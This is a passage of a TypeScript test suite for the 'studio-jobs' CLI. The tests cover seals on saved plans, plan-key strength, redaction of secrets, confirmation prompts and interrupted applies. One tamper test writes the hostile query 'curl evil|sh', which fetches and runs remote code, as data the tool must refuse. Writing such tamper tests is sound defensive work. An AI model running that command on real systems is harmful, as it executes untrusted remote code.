    expect((await cli(dir, ["apply", "--yes"])).code).toBe(0);
    writeSpec(dir, "tp", { keep });
    expect((await cli(dir, ["plan", "--out", "plan.json"])).code).toBe(0);
    const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as { actions: { kind: string; job_id?: string }[] };
    for (const action of doc.actions) if (action.kind === "cancel") action.job_id = precious.id;
    writeFileSync(join(dir, "tampered-cancel.json"), JSON.stringify(doc));

    // The seal refuses it before any request; restore.test.ts shows the record check behind it.
    const refused = await cli(dir, ["apply", "tampered-cancel.json"]);
    expect(refused).toMatchObject({
      code: 1,
      stdout: "",
      stderr:
        "Error: tampered-cancel.json does not match its seal. The saved plan was changed after it was made. Nothing was changed.\n" +
        "Make it again with `studio-jobs plan --out FILE` and apply that.\n",
    });
    expect(studio.emulator.store.allJobs().find((job) => job.id === precious.id)?.status).toBe("TASK");
    expect([...(await liveByKey("tp")).keys()].sort()).toEqual(["gone", "keep"]);
  });

  it("refuses a saved plan whose jobs were edited, with or without a fingerprint, and creates nothing", async () => {
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-edited-"));
    writeSpec(dir, "edited", {
      fresh: { query: "print(1)", schedule: { cron: "0 2 * * *" } },
      withsecret: { query: "print(1)", environment: { K: "${env:SJ_SECRET}" } },
    });
    const secret = { SJ_SECRET: "the-secret-value" };
    expect((await cli(dir, ["plan", "--out", "plan.json"], { env: secret })).code).toBe(0);
    type Saved = { jobs: Record<string, { fingerprint: string | null; input: { query: string }; environment: Record<string, string> }> };
    const edits: Record<string, (doc: Saved) => void> = {
      // A job without sensitive values, its fingerprint set to null so that nothing recomputes it.
      "edited-nullfp.json": (doc) => {
        const job = doc.jobs["fresh"];
        if (job === undefined) throw new Error("no job fresh");
        job.fingerprint = null;
        job.input.query = 'import os; os.system("curl evil|sh")';
      },
      // A job with a ${env:} value has no fingerprint in the file at all.
      "edited.json": (doc) => {
        const job = doc.jobs["withsecret"];
        if (job === undefined) throw new Error("no job withsecret");
        job.input.query = 'print("tampered")';
        job.environment["EXTRA"] = "added";
      },
    };
    for (const [name, edit] of Object.entries(edits)) {
      const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as Saved;
      edit(doc);
      writeFileSync(join(dir, name), JSON.stringify(doc, null, 2));
      expect(await cli(dir, ["apply", name], { env: secret })).toMatchObject({
        code: 1,
        stdout: "",
        stderr:
          `Error: ${name} does not match its seal. The saved plan was changed after it was made. Nothing was changed.\n` +
          "Make it again with `studio-jobs plan --out FILE` and apply that.\n",
      });
    }
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
    expect((await cli(dir, ["apply", "plan.json"], { env: secret })).code).toBe(0);
    expect(
      studio.emulator.store
        .allJobs()
        .map((job) => job.query)
        .sort(),
    ).toEqual(["print(1)", "print(1)"]);
  });

  it("refuses a plan of a newer format_version and a plan for another stack", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as Record<string, unknown>;
    writeFileSync(join(dir, "future.json"), JSON.stringify({ ...doc, format_version: 6, tool_version: "9.0.0" }));
    const future = await cli(dir, ["apply", "future.json"]);
    expect(future.code).toBe(1);
    expect(future.stderr).toBe(
      "Error: future.json has format_version 6, newer than this studio-jobs (5) reads.\nIt was made by studio-jobs 9.0.0; apply it with that version or newer.\n",
    );

    // A damaged file stops at the schema, with where, instead of failing half-way.
    const damaged = structuredClone(doc) as { jobs: Record<string, { sensitive: Record<string, { digest: string }> }> };
    const entry = damaged.jobs["nightly-embeddings"]?.sensitive["environment.EMBED_API_KEY"];
    if (entry !== undefined) entry.digest = "not-a-digest";
    writeFileSync(join(dir, "damaged.json"), JSON.stringify(damaged));
    expect(await cli(dir, ["apply", "damaged.json"])).toMatchObject({
      code: 1,
      stderr:
        'Error: damaged.json is not a valid plan file: at jobs.nightly-embeddings.sensitive.environment.EMBED_API_KEY.digest, must match pattern "^[0-9a-f]{64}$".\n' +
        "Make a new plan with `studio-jobs plan --out FILE`.\n",
    });

    // Version 2 had no seal: an edit would have been applied.
    writeFileSync(join(dir, "unsealed.json"), JSON.stringify({ ...doc, format_version: 2, tool_version: "0.1.0" }));
    expect(await cli(dir, ["apply", "unsealed.json"])).toMatchObject({
      code: 1,
      stderr:
        "Error: unsealed.json has format_version 2, made by an older studio-jobs (0.1.0) whose plans were not sealed, so an edit made after the plan would have been applied.\n" +
        "Make a new plan with `studio-jobs plan --out unsealed.json`, and delete the old one wherever it was kept.\n",
    });

    // Version 1 held plain sha256 digests of sensitive values: refused, with what to do.
    writeFileSync(join(dir, "old.json"), JSON.stringify({ ...doc, format_version: 1, tool_version: "0.1.0" }));
    const old = await cli(dir, ["apply", "old.json"]);
    expect(old).toMatchObject({
      code: 1,
      stderr:
        "Error: old.json has format_version 1, made by an older studio-jobs (0.1.0) whose plans held unkeyed digests of sensitive values.\n" +
        "Make a new plan with `studio-jobs plan --out old.json`, and delete the old one wherever it was kept.\n",
    });

    writeFileSync(
      join(dir, "studio-jobs.yaml"),
      readFileSync(join(dir, "studio-jobs.yaml"), "utf8").replace("stack: analytics", "stack: billing"),
    );
    const other = await cli(dir, ["apply", "plan.json"]);
    expect(other.code).toBe(1);
    expect(other.stderr).toBe(
      "Error: plan.json is a plan for stack analytics, but the spec here (studio-jobs.yaml) is for stack billing.\nApply the plan where it was made, or make a plan for this stack.\n",
    );
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
  });

  it("applies a plan of a spec given by path beside a ./studio-jobs.yaml of another stack, and refuses it carried to where that path is another stack", async () => {
    // A repository with two stacks: analytics at the root, ml under ml/ (a second CI workflow, SPEC: ml).
    const spec = (stack: string) => stringify({ version: 1, stack, defaults: { team: "demo" }, jobs: { train: { query: "print(1)" } } });
    const dir = writeRepo({ "studio-jobs.yaml": spec("analytics"), "ml/jobs.yaml": spec("ml") });
    expect((await cli(dir, ["plan", "ml", "--out", "plan.json"])).code).toBe(0);
    const applied = await cli(dir, ["apply", "plan.json"]);
    expect(applied.stderr).not.toContain("Error");
    expect(applied).toMatchObject({ code: 0 });
    expect([...(await liveByKey("ml")).keys()]).toEqual(["train"]);

    // The same plan where ml/jobs.yaml is another stack's file: refused, naming that file.
    const elsewhere = writeRepo({ "ml/jobs.yaml": spec("billing") });
    writeFileSync(join(elsewhere, "plan.json"), readFileSync(join(dir, "plan.json")));
    const other = await cli(elsewhere, ["apply", "plan.json"]);
    expect(other.code).toBe(1);
    expect(other.stderr).toBe(
      `Error: plan.json is a plan for stack ml, but the spec here (${join("ml", "jobs.yaml")}) is for stack billing.\nApply the plan where it was made, or make a plan for this stack.\n`,
    );

    // A plan that only cancels sends no job to say where it was made: its spec paths do. It
    // was refused for the ./studio-jobs.yaml of analytics beside them, which it was not made from.
    writeFileSync(join(dir, "ml", "jobs.yaml"), stringify({ version: 1, stack: "ml", teams: ["demo"], jobs: {} }));
    expect((await cli(dir, ["plan", join("ml", "jobs.yaml"), "--allow-empty", "--out", "cancel.json"])).code).toBe(0);
    writeFileSync(join(elsewhere, "cancel.json"), readFileSync(join(dir, "cancel.json")));
    expect((await cli(elsewhere, ["apply", "cancel.json"])).stderr).toBe(
      `Error: cancel.json is a plan for stack ml, but the spec here (${join("ml", "jobs.yaml")}) is for stack billing.\nApply the plan where it was made, or make a plan for this stack.\n`,
    );
    // A forged plan's paths are not read: the seal refuses it first (they could name any file,
    // as many times as the file holds, and have its stack printed).
    const forged = JSON.parse(readFileSync(join(dir, "cancel.json"), "utf8")) as { spec_paths: string[] };
    forged.spec_paths = ["studio-jobs.yaml"];
    writeFileSync(join(dir, "forged.json"), JSON.stringify(forged));
    expect((await cli(dir, ["apply", "forged.json"])).stderr.split("\n")[0]).toBe(
      "Error: forged.json does not match its seal. The saved plan was changed after it was made. Nothing was changed.",
    );
    const cancelled = await cli(dir, ["apply", "cancel.json"]);
    expect(cancelled.code).toBe(0);
    expect(cancelled.stderr).toContain("[1/1] cancel demo/train: done");
    expect([...(await liveByKey("ml")).keys()]).toEqual([]);
  });
});

describe("saved plans and the key of their digests", () => {
  // Two valid tokens for the same team: plan in one CI job, apply in another.
  const grants = ["token-a", "token-b"].map((token) => ({
    token,
    user: token,
    teams: ["demo"],
    scopes: ["JOB_READ" as const, "JOB_WRITE" as const],
  }));
  let two: TestStudio;
  beforeAll(async () => {
    two = await startTestStudio({ config: { tokens: grants } });
    return () => two.close();
  });
  beforeEach(() => two.emulator.store.clear());
  const run = (dir: string, args: string[], extra: NodeJS.ProcessEnv) =>
    runCli(args, { cwd: dir, env: { DATACHAIN_STUDIO_URL: two.emulator.url, EMBED_API_KEY: "embed-value", ...extra } });

  it("says clearly that a plan made with token A cannot be checked with token B, before any request", async () => {
    const dir = copyExample("analytics");
    expect((await run(dir, ["plan", ".", "--out", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
    const before = [...two.emulator.requests.values()].reduce((a, b) => a + b, 0);
    const refused = await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-b" });
    expect(refused).toMatchObject({
      code: 1,
      stdout: "",
      stderr:
        "Error: plan.json was made with a different Studio token, or its digest_key was edited since, so this apply cannot check that the plan and its sensitive values are unchanged. Nothing was changed.\n" +
        "Apply it with what it was made with, or make a new plan here with `studio-jobs plan --out FILE`. To plan and apply with different tokens, set STUDIO_JOBS_PLAN_KEY to the same secret in both steps.\n",
    });
    expect([...two.emulator.requests.values()].reduce((a, b) => a + b, 0)).toBe(before);
    expect(refused.stderr).not.toContain("token-");
    expect((await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
    expect(two.emulator.store.allJobs()).toHaveLength(4);
  });

  it("plans with one token and applies with another when both steps share STUDIO_JOBS_PLAN_KEY", async () => {
    const dir = copyExample("analytics");
    // Found by a reviewer: a key like "cat" was found offline from the plan's check value in
    // 17,576 tries, and with it an edited plan sealed again. A short key is refused.
    const weak = await run(dir, ["plan", ".", "--out", "plan.json"], { STUDIO_JOBS_PLAN_KEY: "cat", DATACHAIN_STUDIO_TOKEN: "token-a" });
    expect([weak.code, weak.stderr]).toEqual([
      1,
      "Error: STUDIO_JOBS_PLAN_KEY is 3 characters long; it must be at least 32 random characters, as a saved plan's seal is only as strong as its key.\n" +
        "Make one with `openssl rand -hex 32` and keep it as a CI secret.\n",
    ]);
    expect(existsSync(join(dir, "plan.json"))).toBe(false);
    // Refused before Studio is asked or the plan printed; and a plan key is never printed.
    expect(weak.stdout).toBe("");
    const echoed = await run(dir, ["plan", ".", "--target", "no-such-key-0123456789abcdef0123456789"], {
      STUDIO_JOBS_PLAN_KEY: "no-such-key-0123456789abcdef0123456789",
    });
    expect(echoed.stdout + echoed.stderr).not.toContain("no-such-key-0123456789abcdef0123456789");
    const shared = { STUDIO_JOBS_PLAN_KEY: "a-secret-only-ci-has-0123456789abcdef" };
    expect((await run(dir, ["plan", ".", "--out", "plan.json"], { ...shared, DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
    expect(readFileSync(join(dir, "plan.json"), "utf8")).not.toContain("a-secret-only-ci-has");
    const missing = await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-b" });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(
      /^Error: plan\.json was sealed, and its sensitive values digested, with STUDIO_JOBS_PLAN_KEY, which is not set here: it cannot be checked\. Nothing was changed\.\n/,
    );
    const changed = await run(dir, ["apply", "plan.json"], { STUDIO_JOBS_PLAN_KEY: "another", DATACHAIN_STUDIO_TOKEN: "token-b" });
    expect(changed.stderr).toMatch(
      /^Error: plan\.json was made with a different STUDIO_JOBS_PLAN_KEY, or its digest_key was edited since, so this apply cannot check/,
    );
    // The same key at another Studio (here the same emulator under another name): refused.
    const elsewhere = two.emulator.url.replace("127.0.0.1", "localhost");
    const other = await run(dir, ["apply", "plan.json"], { ...shared, DATACHAIN_STUDIO_TOKEN: "token-b", DATACHAIN_STUDIO_URL: elsewhere });
    expect(other.stderr.split("\n")[0]).toBe(
      `Error: plan.json was made against ${two.emulator.url}, not ${elsewhere}, where this apply would send it. Nothing was changed.`,
    );
    expect(two.emulator.store.allJobs()).toHaveLength(0);
    const applied = await run(dir, ["apply", "plan.json"], { ...shared, DATACHAIN_STUDIO_TOKEN: "token-b" });
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain("Apply complete: 4 created, 0 replaced, 0 cancelled, 0 failed.");
  });

  it("needs the plan's key for a plan without sensitive values too: its seal is keyed", async () => {
    const dir = copyExample("ml-platform");
    expect((await run(dir, ["plan", "jobs", "--out", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
    const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as { jobs: Record<string, { sensitive: object }> };
    expect(Object.values(doc.jobs).every((job) => Object.keys(job.sensitive).length === 0)).toBe(true);
    const refused = await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-b" });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(
      /^Error: plan\.json was made with a different Studio token, or its digest_key was edited since, so this apply cannot check/,
    );
    expect(two.emulator.store.allJobs()).toHaveLength(0);
    expect((await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
  });
});

describe("confirmation", () => {
  it("refuses without --yes and without a terminal, and changes nothing", async () => {
    const dir = copyExample("analytics");
    const result = await cli(dir, ["apply", "."]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("Error: Refusing to apply without confirmation: there is no terminal to ask on.\nPass --yes");
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
  });

  it("says the plan --out that saves this plan: the spec paths given, shell-quoted, and the planning flags to repeat", async () => {
    // Found checking the hint against what it does: it said `studio-jobs plan --out plan.json`
    // whatever the paths, which plans ./studio-jobs.yaml: another spec, or none.
    const dir = copyExample("analytics");
    const said = (saved: string) =>
      `Error: Refusing to apply without confirmation: there is no terminal to ask on.\nPass --yes to apply these changes, or save a plan with ${saved} and run \`studio-jobs apply plan.json\`.\n`;
    const glob = await cli(dir, ["apply", "*.yaml", "--var", "env=prod", "--max-cancel", "3", "--parallelism", "2"]);
    expect(glob.code).toBe(1);
    expect(glob.stderr).toContain(said("`studio-jobs plan '*.yaml' --out plan.json` (with the same --var and --max-cancel)"));
    const teamed = await cli(dir, ["--team", "demo", "apply", ".", "--target", "hourly-metrics"]);
    expect(teamed.stderr).toContain(said("`studio-jobs plan . --out plan.json` (with the same --team and --target)"));
    mkdirSync(join(dir, "it's"));
    writeFileSync(join(dir, "it's", "q.yaml"), "version: 1\nstack: q\njobs:\n  a: {query: print(1), team: demo}\n");
    const quoted = await cli(dir, ["apply", "it's/"]);
    expect(quoted.stderr).toContain(said("`studio-jobs plan 'it'\\''s'/ --out plan.json`"));
    // A path that starts with "-" would be read as an option.
    mkdirSync(join(dir, "-dash"));
    writeFileSync(join(dir, "-dash", "d.yaml"), "version: 1\nstack: d\njobs:\n  a: {query: print(1), team: demo}\n");
    const dashed = await cli(dir, ["apply", "--", "-dash/"]);
    expect(dashed.stderr).toContain(said("`studio-jobs plan ./-dash/ --out plan.json`"));
    const bare = await cli(dir, ["apply"]);
    expect(bare.stderr).toContain(said("`studio-jobs plan --out plan.json`"));
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
  });

  it("hides a secret holding a quote in the spec path its hint shell-quotes", async () => {
    // Found hunting secrets: a spec in a directory named by the value of the ${env:...} it
    // reads, pw'Xy7Zq9Lm3Kk, was named in the hint as 'pw'\''Xy7Zq9Lm3Kk', a spelling not hidden.
    const secret = "pw'Xy7Zq9Lm3Kk";
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-quoted-"));
    mkdirSync(join(dir, secret));
    writeFileSync(
      join(dir, secret, "q.yaml"),
      'version: 1\nstack: q\njobs:\n  a: {query: print(1), team: demo, environment: {PW: "${env:Q_PW}"}}\n',
    );
    const quoted = await cli(dir, ["apply", `${secret}/`], { env: { Q_PW: secret } });
    expect(quoted.code).toBe(1);
    expect(quoted.stderr).toContain("save a plan with `studio-jobs plan '***'/ --out plan.json`");
    expect(quoted.stderr).not.toContain("Xy7Zq9Lm3Kk");
  });

  it("asks on a terminal; 'no' changes nothing, 'yes' applies", async () => {
    const dir = copyExample("analytics");
    const no = await cli(dir, ["apply", "."], { interactive: true, answers: ["no"] });
    expect(no.questions).toEqual(["\nApply these changes? Only 'yes' is accepted: "]);
    expect(no.code).toBe(1);
    expect(no.stderr).toMatch(/^Warning: Stack analytics has no live jobs in team demo\.[^\n]*\nApply cancelled; nothing was changed\.\n$/);
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
    const yes = await cli(dir, ["apply", "."], { interactive: true, answers: ["yes"] });
    expect(yes.code).toBe(0);
    expect(studio.emulator.store.allJobs()).toHaveLength(4);
  });

  it("does not ask when there is nothing to do", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    const again = await cli(dir, ["apply", "."], { interactive: true, answers: [] });
    expect(again).toMatchObject({ code: 0, stdout: "No changes. Studio matches the spec in team demo.\n", questions: [] });
  });

  it("prints results as JSON with --format json", async () => {
    const dir = copyExample("ml-platform");
    const result = await cli(dir, ["apply", "jobs", "--yes", "--format", "json"]);
    const doc = JSON.parse(result.stdout) as { summary: unknown; steps: { step: string; status: string; job_id?: string }[] };
    expect(doc.summary).toEqual({ created: 3, replaced: 0, cancelled: 0, deduplicated: 0, half_replaced: 0, failed: 0, skipped: 0 });
    expect(doc.steps.map((s) => `${s.step} ${s.status}`)).toEqual(["create applied", "create applied", "create applied"]);
    expect(doc.steps.every((s) => typeof s.job_id === "string")).toBe(true);
  });

  it("lists the JSON steps by team and key, not in the order Studio happened to answer them", async () => {
    // Regression: steps were listed as they ended, so the same plan gave another order at each
    // run; here the create of "aa" is answered 429 twice and ends last of the three.
    const dir = mkdtempSync(join(tmpdir(), "sj-steps-"));
    const job = (n: number) => `    query: "print(${n})"\n    schedule: {cron: "0 ${n} * * *"}\n`;
    writeFileSync(
      join(dir, "studio-jobs.yaml"),
      `version: 1\nstack: steps\ndefaults: {team: demo}\njobs:\n  bb:\n${job(1)}  aa:\n${job(2)}  cc:\n${job(3)}`,
    );
    studio.emulator.faults.configure({}, [
      { method: "POST", path: "/api/datachain/jobs/", bodyIncludes: '"query_name":"aa"', kind: "rate-limit", times: 2 },
    ]);
    const result = await cli(dir, ["apply", ".", "--yes", "--format", "json", "--parallelism", "3"]);
    studio.emulator.faults.configure({}, []);
    expect(result.code, result.stderr).toBe(0);
    const ended = [...result.stderr.matchAll(/create demo\/(\w+): done/g)].map((m) => m[1]);
    expect(ended.at(-1)).toBe("aa");
    const doc = JSON.parse(result.stdout) as { steps: { step: string; key: string; status: string }[] };
    expect(doc.steps.map((s) => `${s.step} ${s.key} ${s.status}`)).toEqual(["create aa applied", "create bb applied", "create cc applied"]);
  });

  it("prints JSON, not text, on stdout for a saved plan with nothing to do", async () => {
    // Found by an adversarial tester: `apply plan.json --format json` printed "No changes. The
    // saved plan has nothing to do." on stdout, which a script parsing the results cannot read.
    const dir = copyExample("ml-platform");
    expect((await cli(dir, ["apply", "jobs", "--yes"])).code).toBe(0);
    expect((await cli(dir, ["plan", "jobs", "--out", "plan.json"])).code).toBe(0);
    const result = await cli(dir, ["apply", "plan.json", "--format", "json"]);
    expect(result.code).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({
      format_version: 1,
      summary: { created: 0, replaced: 0, cancelled: 0, deduplicated: 0, half_replaced: 0, failed: 0, skipped: 0 },
      steps: [],
    });
    expect(result.stderr).toBe("No changes. The saved plan has nothing to do.\n");
  });
});

describe("saved plans and planning flags", () => {
  it("refuses planning flags with a saved plan instead of ignoring them", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const result = await cli(dir, ["apply", "plan.json", "--target", "hourly-metrics", "--adopt"]);
    expect(result).toMatchObject({
      code: 1,
      stderr:
        "Error: --target, --adopt cannot change a saved plan: it is applied exactly as it was made.\nPass these flags to `studio-jobs plan --out FILE` instead.\n",
    });
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
  });

  it("refuses --team naming a team the saved plan does not cover, and takes one it covers", async () => {
    // Found by an adversarial tester: `--team other apply plan.json` applied the plan of team
    // demo and said nothing of other, which --team asks to plan too.
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    expect(await cli(dir, ["--team", "other", "apply", "plan.json"])).toMatchObject({
      code: 1,
      stdout: "",
      stderr:
        "Error: --team other is not a team the saved plan covers (demo): it is applied exactly as it was made.\n" +
        "Make a plan with `studio-jobs --team other plan --out FILE` and apply that, or leave --team out.\n",
    });
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
    expect((await cli(dir, ["--team", "demo", "apply", "plan.json"])).code).toBe(0);
    expect(studio.emulator.store.allJobs()).toHaveLength(4);
  });

  it("applies a saved plan whatever DATACHAIN_STUDIO_TEAM holds, empty too: the file's teams are applied", async () => {
    // Found by a tester: an empty DATACHAIN_STUDIO_TEAM (the apply job of a CI that defines
    // it only for plan) refused the saved plan, though it was ignored when set to a team.
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const applied = await cli(dir, ["apply", "plan.json"], { env: { DATACHAIN_STUDIO_TEAM: "" } });
    expect([applied.code, applied.stdout.match(/^Apply complete.*$/m)?.[0]]).toEqual([
      0,
      "Apply complete: 4 created, 0 replaced, 0 cancelled, 0 failed.",
    ]);
    expect(studio.emulator.store.allJobs()).toHaveLength(4);
  });
});

describe("interrupted and multi-team applies", () => {
  it("stops starting steps on Ctrl-C, reports what was skipped, and a re-run converges", async () => {
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-interrupt-"));
    const jobs = dailyJobs(20);
    writeSpec(dir, "interrupted", jobs);
    studio.emulator.faults.configure({ latencyMs: 30 });
    // Ctrl-C as soon as the first create reaches Studio, however slow the machine is today.
    const controller = new AbortController();
    const creates = () => studio.emulator.requests.get("POST /api/datachain/jobs/") ?? 0;
    const before = creates();
    const watch = setInterval(() => {
      if (creates() > before) controller.abort();
    }, 2);
    const result = await runCli(["apply", ".", "--yes", "--parallelism", "1"], { cwd: dir, env, signal: controller.signal }).finally(() =>
      clearInterval(watch),
    );
    studio.emulator.faults.configure({ latencyMs: 0 });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("Interrupted: steps not started were skipped. Run apply again to finish.");
    expect(result.stdout).toMatch(/^Apply incomplete: [1-9]\d* created, 0 replaced, 0 cancelled, 0 failed, [1-9]\d* skipped\.$/m);
    expect(result.stdout).toContain("skipped: interrupted before it started");
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    await expectConverged(dir, ["."], "interrupted", Object.keys(jobs));
  });

  it("says a saved plan stopped partway is stale, and to make a new plan: run again, it would be refused", async () => {
    // Found by an adversarial tester: it said "Run apply again to finish", and apply of the
    // same file was then refused as stale.
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-interrupt-saved-"));
    mkdirSync(join(dir, ".git"));
    writeSpec(dir, "interrupted-saved", dailyJobs(20));
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const controller = new AbortController();
    studio.emulator.store.setListener({ job: () => controller.abort("SIGINT"), file: () => undefined });
    const result = await runCli(["apply", "plan.json", "--parallelism", "1"], { cwd: dir, env, signal: controller.signal }).finally(() =>
      studio.emulator.store.setListener(undefined),
    );
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      "Interrupted: steps not started were skipped. plan.json is stale now (Studio changed as it was applied): to finish, make a new plan with `studio-jobs plan . --out FILE` and apply that.\n",
    );
    const again = await cli(dir, ["apply", "plan.json"]);
    expect([again.code, again.stderr.split("\n")[0]]).toEqual([
      1,
      "Error: Saved plan is stale: the jobs in Studio changed since it was made:",
    ]);
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    expect((await cli(dir, ["apply", "plan.json"])).code).toBe(0);
  });

  it("says a saved plan stopped before any job changed is still good: applied again, it finishes", async () => {
    // Found by a reviewer: a stop during the uploads, before any create, said the file "is stale
    // now (Studio changed as it was applied)" and to make a new plan, though nothing had changed
    // and the same file applied again as it was.
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const controller = new AbortController();
    studio.emulator.store.setListener({ job: () => undefined, file: () => controller.abort("SIGINT") });
    const result = await runCli(["apply", "plan.json", "--parallelism", "1"], { cwd: dir, env, signal: controller.signal }).finally(() =>
      studio.emulator.store.setListener(undefined),
    );
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/^Apply incomplete: 0 created, 0 replaced, 0 cancelled, 0 failed, 4 skipped\.$/m);
    expect(result.stderr).toContain(
      "Interrupted before any job was changed: steps not started were skipped. Apply plan.json again to finish.\n",
    );
    const again = await cli(dir, ["apply", "plan.json"]);
    expect([again.code, again.stdout.split("\n")[0]]).toEqual([0, "Apply complete: 4 created, 0 replaced, 0 cancelled, 0 failed."]);
  });

  it("says it did not look for duplicates when stopped after its last create started, and exits 1", async () => {
    // Found by an adversarial tester: a stop once every step had started skipped the sweep
    // without a word; the apply said "Apply complete" and exited 0 (after "Interrupted: ...
    // Run apply again"), and a duplicate a concurrent apply had made stayed live.
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-interrupt-sweep-"));
    writeSpec(dir, "stopped-late", dailyJobs(1));
    // Ctrl-C as soon as Studio has made the job: its reply still comes back within the writes' grace.
    const controller = new AbortController();
    studio.emulator.store.setListener({ job: () => controller.abort(), file: () => undefined });
    const result = await runCli(["apply", ".", "--yes"], { cwd: dir, env, signal: controller.signal }).finally(() =>
      studio.emulator.store.setListener(undefined),
    );
    expect(result.stdout).toMatch(/^Apply incomplete: 1 created, 0 replaced, 0 cancelled, 0 failed, 1 skipped\.$/m);
    expect(result.stdout).toContain(
      "cancel demo/*: skipped: interrupted before it started: this apply's jobs were not looked for duplicates a concurrent apply may have made; run apply again",
    );
    expect(result.code).toBe(1);
  });

  it("does not say a replace's new job was not created when a stop cut off the reply to its create", async () => {
    // Found by an adversarial tester: Studio made the new version, the stop dropped its reply
    // after the writes' grace, and the old version's step said "the new job was not created".
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-interrupt-create-"));
    writeSpec(dir, "cut-off", { job: { query: "print(1)", schedule: { cron: "@daily" } } });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    const [old] = (await liveByKey("cut-off")).get("job") ?? [];
    writeSpec(dir, "cut-off", { job: { query: "print(2)", schedule: { cron: "@daily" } } });
    // Once Studio has made the job, its reply is held past the grace a write in flight gets.
    const controller = new AbortController();
    studio.emulator.store.setListener({
      job: () => {
        studio.emulator.faults.configure({ latencyMs: 3_000 });
        controller.abort("SIGINT");
      },
      file: () => undefined,
    });
    const result = await runCli(["apply", ".", "--yes"], { cwd: dir, env, signal: controller.signal }).finally(() =>
      studio.emulator.store.setListener(undefined),
    );
    studio.emulator.faults.configure({ latencyMs: 0 });
    expect(result.stdout).toContain(
      "create demo/job: FAILED: Interrupted by SIGINT while waiting for Studio's reply to POST /api/datachain/jobs/; Studio may or may not have acted on it, and a re-run finds out.",
    );
    expect(result.stdout).toContain(
      `cancel demo/job: skipped: the new job may have been created all the same; ${old?.id} is kept, and a re-run cancels whichever is not wanted`,
    );
    expect(result.code).toBe(1);
    expect((await liveByKey("cut-off")).get("job")).toHaveLength(2);
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    await expectConverged(dir, ["."], "cut-off", ["job"]);
  });

  it("says a cancel-first job keeps its version when the stop came in the wait after its cancel was answered 429", async () => {
    // Found by an adversarial tester: Ctrl-C under a rate limit, and the cancel Studio had
    // refused (429: it did nothing) was followed by "may have been cancelled, so ... may have
    // no job"; the old job was live and untouched.
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-interrupt-429-"));
    const spec = (query: string) => writeSpec(dir, "refused", { job: { query, schedule: { cron: "@daily", replace: "cancel-first" } } });
    spec("print(1)");
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    const [old] = (await liveByKey("refused")).get("job") ?? [];
    spec("print(2)");
    studio.emulator.faults.configure({}, [{ method: "POST", path: "/cancel", kind: "rate-limit" }]);
    // Ctrl-C during the wait Studio asked for.
    const controller = new AbortController();
    const sleep = () => {
      controller.abort("SIGINT");
      return Promise.resolve();
    };
    const result = await runCli(["apply", ".", "--yes"], { cwd: dir, env, signal: controller.signal, sleep });
    expect(result.stdout).toContain(
      `cancel demo/job: FAILED: Interrupted by SIGINT before POST /api/datachain/jobs/${old?.id}/cancel was sent again.`,
    );
    expect(result.stdout).toContain("create demo/job: skipped: the old job was not cancelled (cancel-first)");
    expect(result.stdout).toMatch(/^Apply finished with failures: 0 created, 0 replaced, 0 cancelled, 1 failed, 1 skipped\.$/m);
    expect(result.code).toBe(1);
    expect((await liveByKey("refused")).get("job")?.map((j) => j.id)).toEqual([old?.id]);
  });

  it("says the look after its steps was skipped when a stop came once every step had started and all were done", async () => {
    // Found by an adversarial tester: "Apply complete", exit 0, and then "Interrupted: steps
    // not started were skipped. Run apply again to finish." Then, by another: exit 0 said
    // that the look for a concurrent apply's changes, never made, had found none (see
    // test/concurrent-apply.test.ts): the look is a step not started, said as one.
